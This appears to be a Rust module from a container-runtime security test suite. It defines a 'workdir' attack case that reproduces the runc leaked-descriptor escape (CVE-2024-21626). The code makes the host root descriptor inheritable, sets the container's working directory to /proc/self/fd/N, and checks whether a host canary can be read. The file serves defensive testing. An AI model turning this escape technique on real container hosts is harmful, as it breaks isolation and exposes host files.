//! A working directory that is a descriptor of the runtime.

use std::fs::{self, File};
use std::os::fd::AsRawFd;

use nix::fcntl::{FcntlArg, FdFlag, fcntl};
use process::Step;

use crate::attack::attacker::A_FILE;
use crate::attack::cell::Finding;
use crate::attack::target::Attack;

pub const ATTACK: Attack = Attack {
    name: "workdir",
    title: "start in a directory of the host",
    tries: "have an image whose working directory is /proc/self/fd/N, where N is a directory \
            of the host that the runtime, or who started it, has open meanwhile.",
    why: "before it goes to the working directory, the process closes all that it has \
          inherited, and afterwards it looks where it is. In 2024 runc did neither.",
    reference: "CVE-2024-21626, proc_pid_fd(5)",
    stopped_by: 0,
    run: |target| {
        let root = File::open("/").step(|| "open /")?;
        // Our children inherit all that is not closed on exec.
        fcntl(&root, FcntlArg::F_SETFD(FdFlag::empty())).step(|| "let / be inherited")?;
        let workdir = format!("/proc/self/fd/{}", root.as_raw_fd());
        match target.attack::<&str>(&["--workdir", &workdir], &[]) {
            Ok(said) => Ok(said.has_read(target.secret, A_FILE)),
            Err(error) if error.to_string().contains(&workdir) => {
                Ok(Finding::Blocked(format!("the runtime refuses the directory: {error}")))
            }
            Err(error) => Err(error),
        }
    },
    inside: |_| fs::read_to_string("canary").step(|| "read canary in the working directory"),
};
